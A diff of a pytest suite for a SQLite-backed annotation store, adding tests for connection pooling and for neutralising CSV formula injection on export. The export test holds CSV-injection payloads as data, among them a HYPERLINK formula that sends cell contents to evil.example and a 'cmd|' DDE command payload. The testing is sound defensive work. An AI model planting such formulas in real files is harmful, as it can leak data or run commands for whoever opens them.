@@ -2,12 +2,13 @@
 
 Schema and migrations, all-or-nothing imports, balanced reproducible assignment, serving order,
 labels with edits and history, idempotent submissions, un-swapping, validation, tables for the
-statistics tab, export, and durability: labels acknowledged by a process killed with SIGKILL are
-all on disk.
+statistics tab, export (no CSV cell starts a spreadsheet formula), durability: labels acknowledged by
+a process killed with SIGKILL are all on disk, and threads that come and go leave no connections open.
 """
 
 from __future__ import annotations
 
+import csv
 import json
 import os
 import signal
@@ -66,28 +67,27 @@ def filled(store):
 
 
 def assignments(store: AnnotationStore) -> list[tuple]:
-    con = store._con()
     return [
         tuple(r)
-        for r in con.execute("SELECT annotator, item_id, position, swapped FROM assignments ORDER BY 1, 2")
+        for r in store._all("SELECT annotator, item_id, position, swapped FROM assignments ORDER BY 1, 2")
     ]
 
 
 def count(store: AnnotationStore, table: str) -> int:
-    return store._con().execute(f"SELECT COUNT(*) FROM {table}").fetchone()[0]
+    return store._one(f"SELECT COUNT(*) FROM {table}")[0]
 
 
 # -- schema and migrations -----------------------------------------------------------------------
 
 
 def test_schema_is_created_in_wal_mode_with_full_sync(store):
-    con = store._con()
-    tables = {r[0] for r in con.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
+    tables = {r[0] for r in store._all("SELECT name FROM sqlite_master WHERE type = 'table'")}
     assert {"items", "annotators", "assignments", "labels", "label_history", "submissions"} <= tables
     assert store.schema_version() == len(MIGRATIONS) == 1
-    assert con.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
-    assert con.execute("PRAGMA synchronous").fetchone()[0] == 2  # FULL
-    assert con.execute("PRAGMA busy_timeout").fetchone()[0] >= 30_000
+    with store._connection() as con:
+        assert con.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
+        assert con.execute("PRAGMA synchronous").fetchone()[0] == 2  # FULL
+        assert con.execute("PRAGMA busy_timeout").fetchone()[0] >= 30_000
 
 
 def test_a_version_1_file_is_upgraded_by_an_appended_migration(tmp_path):
@@ -101,7 +101,7 @@ def test_a_version_1_file_is_upgraded_by_an_appended_migration(tmp_path):
     with AnnotationStore(path, migrations=(*MIGRATIONS, add_flag)) as s:
         assert s.schema_version() == 2
         assert s.item_count() == 3
-        assert [r[0] for r in s._con().execute("SELECT flagged FROM items")] == [0, 0, 0]
+        assert [r[0] for r in s._all("SELECT flagged FROM items")] == [0, 0, 0]
     with AnnotationStore(path, migrations=(*MIGRATIONS, add_flag)) as s:  # applied once only
         assert s.schema_version() == 2
     with pytest.raises(SchemaError, match="schema version 2 was written by a newer"):
@@ -120,7 +120,7 @@ def test_a_failing_migration_changes_nothing(tmp_path):
         AnnotationStore(path, migrations=(*MIGRATIONS, broken))
     with AnnotationStore(path) as s:
         assert s.schema_version() == 1
-        assert s._con().execute("SELECT name FROM sqlite_master WHERE name = 'half_done'").fetchone() is None
+        assert s._one("SELECT name FROM sqlite_master WHERE name = 'half_done'") is None
 
 
 def test_a_file_that_is_not_a_database_is_refused(tmp_path):
@@ -615,7 +615,7 @@ CHILD = textwrap.dedent(
     from eval_ui.store import AnnotationStore, LabelInput
 
     store = AnnotationStore(sys.argv[1])
-    item_ids = [a for a in sorted(r[0] for r in store._con().execute("SELECT id FROM items"))]
+    item_ids = sorted(r[0] for r in store._all("SELECT id FROM items"))
     verdicts = ("left", "right", "tie", "both_bad")
     n = 0
     while True:
@@ -663,7 +663,7 @@ def test_labels_acknowledged_before_sigkill_are_all_on_disk(tmp_path):
     assert len(acknowledged) >= 150
 
     with AnnotationStore(path) as s:
-        assert s._con().execute("PRAGMA integrity_check").fetchone()[0] == "ok"
+        assert s._one("PRAGMA integrity_check")[0] == "ok"
         lost = [sid for sid, _ in acknowledged if s.submission(sid) is None]
         assert lost == []
         last = {item_id: sid for sid, item_id in acknowledged}
@@ -673,3 +673,104 @@ def test_labels_acknowledged_before_sigkill_are_all_on_disk(tmp_path):
             # line the kill cut off
             assert current["submission_id"] == sid or int(current["submission_id"][4:]) > int(sid[4:])
         assert s.progress("k") == (80, 80)
+
+
+# -- connections are not kept per thread forever ----------------------------------------------------
+
+
+def open_fds(path: Path) -> int:
+    """How many of this process's file descriptors are open on the database file or its -wal / -shm."""
+    names = {str(path), f"{path}-wal", f"{path}-shm"}
+    count = 0
+    for fd in os.listdir("/proc/self/fd"):
+        try:
+            count += os.readlink(f"/proc/self/fd/{fd}") in names
+        except OSError:  # closed since the listing (the listing's own descriptor)
+            pass
+    return count
+
+
+@pytest.mark.skipif(not Path("/proc/self/fd").is_dir(), reason="counts descriptors in /proc/self/fd (Linux)")
+def test_threads_that_come_and_go_do_not_leave_connections_open(filled):
+    # A server's worker threads are started for a burst of requests and retired when idle (AnyIO
+    # does this); the store must not keep a connection open for every thread that ever used it.
+    from eval_ui.store import POOL_SIZE
+
+    path = filled.path
+    burst = POOL_SIZE + 4  # more threads at once than connections are kept
+
+    def annotate(name: str, barrier: threading.Barrier) -> None:
+        barrier.wait()
+        filled.progress(name)
+        shown = filled.next_item(name)
+        if shown is not None:
+            filled.save_label(name, shown.item.id, LabelInput("tie"), os.urandom(8).hex())
+
+    after_each_burst = []
+    for _ in range(4):
+        barrier = threading.Barrier(burst)
+        threads = [
+            threading.Thread(target=annotate, args=(("张", "李", "王")[k % 3], barrier)) for k in range(burst)
+        ]
+        for t in threads:
+            t.start()
+        for t in threads:
+            t.join()
+        after_each_burst.append(open_fds(path))
+    assert after_each_burst == [after_each_burst[0]] * 4  # nothing accumulates from burst to burst
+    # the kept connections' database and -wal descriptors, the one -shm, and database descriptors of
+    # closed connections that SQLite holds for reuse while other connections hold locks on the file
+    assert after_each_burst[0] <= POOL_SIZE + burst + 1
+    filled.close()
+    assert open_fds(path) == 0
+
+
+# -- CSV export is safe to open in a spreadsheet ------------------------------------------------------
+
+
+def test_csv_export_neutralises_spreadsheet_formulas_and_jsonl_keeps_the_text(tmp_path):
+    # A cell starting with = + - @, a tab or a carriage return is a formula to Excel and LibreOffice
+    # (OWASP "CSV injection"): every text cell of the CSV starting so gets a leading apostrophe.
+    hostile = {
+        "=": '=HYPERLINK("https://evil.example/?d="&A1,"点这里")',
+        "+": "+1+cmd|'/C calc'!A0",
+        "-": "-2+3",
+        "@": "@SUM(1+1)",
+        "\t": "\t=1+1",
+        "\r": "\r=1+1",
+    }
+    s = AnnotationStore(tmp_path / "annotations.sqlite")
+    s.import_items(
+        [Item("=q1", "=问题", "+甲的回答", "-乙的回答", "@sysA", "\tsysB", source="\rsrc")]
+        + make_items(len(hostile) - 1, prefix="i")
+    )
+    s.add_annotator("=律师")
+    s.assign(overlap=1)
+    item_ids = ["=q1"] + [f"i{k}" for k in range(len(hostile) - 1)]
+    for item_id, comment in zip(item_ids, hostile.values(), strict=True):
+        s.save_label("=律师", item_id, LabelInput("tie", comment=comment), f"-sub-{item_id}")
+
+    s.export(tmp_path / "labels.csv")
+    with open(tmp_path / "labels.csv", encoding="utf-8-sig", newline="") as f:
+        rows = list(csv.DictReader(f))
+    by_item = {r["item_id"]: r for r in rows}
+    assert set(by_item) == {"'" + i if i.startswith("=") else i for i in item_ids}
+    assert sorted(r["comment"] for r in rows) == sorted("'" + c for c in hostile.values())
+    first = by_item["'=q1"]
+    assert (first["question"], first["system_a"], first["system_b"], first["source"]) == (
+        "'=问题",
+        "'@sysA",
+        "'\tsysB",
+        "'\rsrc",
+    )
+    assert {r["annotator"] for r in rows} == {"'=律师"}
+    assert all(r["submission_id"].startswith("'-sub-") for r in rows)
+    for r in rows:  # no cell of any column starts a formula
+        assert not [k for k, v in r.items() if v[:1] in ("=", "+", "-", "@", "\t", "\r")], r
+    assert by_item["i0"]["rel_a"] == "" and by_item["i0"]["version"] == "1"  # numbers stay numbers
+
+    s.export(tmp_path / "labels.jsonl", fmt="jsonl")  # JSONL is data, not a spreadsheet: verbatim
+    back = [json.loads(line) for line in (tmp_path / "labels.jsonl").read_text(encoding="utf-8").splitlines()]
+    assert sorted(r["comment"] for r in back) == sorted(hostile.values())
+    assert {r["item_id"] for r in back} == set(item_ids) and {r["annotator"] for r in back} == {"=律师"}
+    s.close()
